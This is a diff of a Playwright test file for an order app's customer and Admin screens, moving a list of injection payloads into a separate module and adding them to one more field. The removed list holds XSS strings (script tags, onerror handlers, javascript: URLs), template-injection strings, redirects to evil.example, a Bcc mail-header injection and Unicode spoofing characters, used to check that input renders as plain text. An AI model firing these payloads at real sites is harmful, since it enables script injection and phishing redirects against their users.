@@ -1,40 +1,10 @@
 // X1, X4: what people type stays text on every screen of the customer and the Admin, on paper, in the mails and in the chat.
 import type { APIRequestContext, Page } from '@playwright/test'
 import type { PedidosWire, PedidoWire, UnPedidoWire } from '#contract/pedido-leido.schema.ts'
+import { CARGAS } from './cargas.ts'
 import { createCuenta, expect, test } from './cuentas.ts'
 import { ADMIN, openAs, openOther, readToken, tarjeta } from './mostrador.ts'
 import { alive } from './support.ts'
-
-/** Each would run `alert`, leave the document or forge a line if any screen took it for more than text. */
-const CARGAS = [
-  '<script>alert(1)</script>',
-  '</script><script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  '<svg onload=alert(1)>',
-  '<svg/onload=alert`1`>',
-  '"><iframe srcdoc="<script>parent.alert(1)</script>">',
-  "'-alert(1)-'",
-  '" autofocus onfocus=alert(1) x="',
-  'javascript:alert(1)',
-  '<a href="javascript:alert(1)">a</a>',
-  '<details open ontoggle=alert(1)>',
-  '<style>*{display:none}</style>',
-  '<base href="//evil.example/">',
-  '<meta http-equiv=refresh content="0;url=//evil.example">',
-  '<form action=//evil.example><input name=p>',
-  '<!--',
-  ']]><x-uno>',
-  '{{constructor.constructor("alert(1)")()}}',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is the text itself
-  '${alert(1)}',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-  'a\n*Total final: $1*\nPedido #1',
-  'a\r\nBcc: todos@evil.example\r\n\r\n<b>x</b>',
-  'a\u2028*Total: $1*\u2029b\u0085c',
-  '\u202eoremun\u202c \u2066x\u2069 \u200b\u00ad\ufeff1',
-  '%0A*Total: $1*&phone=1#&text=x *b* _i_ ~t~ ```m```',
-  '<math><mtext></p><img src onerror=alert(1)>',
-] as const
 
 const carga = (i: number) => CARGAS[i % CARGAS.length] ?? ''
 /** Names are refused with line breaks in them. */
@@ -84,6 +54,7 @@ async function poisonNombres(page: Page): Promise<void> {
     for (const { attributes: dentro } of attributes.pedido_articulos.data) {
       dentro.articulo.data.attributes.nombre = carga(i + 1)
       dentro.valor.data.attributes.nombre = carga(i + 2)
+      dentro.preparaciones = [{ id: 1, nombre: carga(i + 3), precioKG: 0 }]
     }
   }
   await page.route(/\/api\/pedidos(?:\/\d+)?(?:\?|$)/, async ruta => {
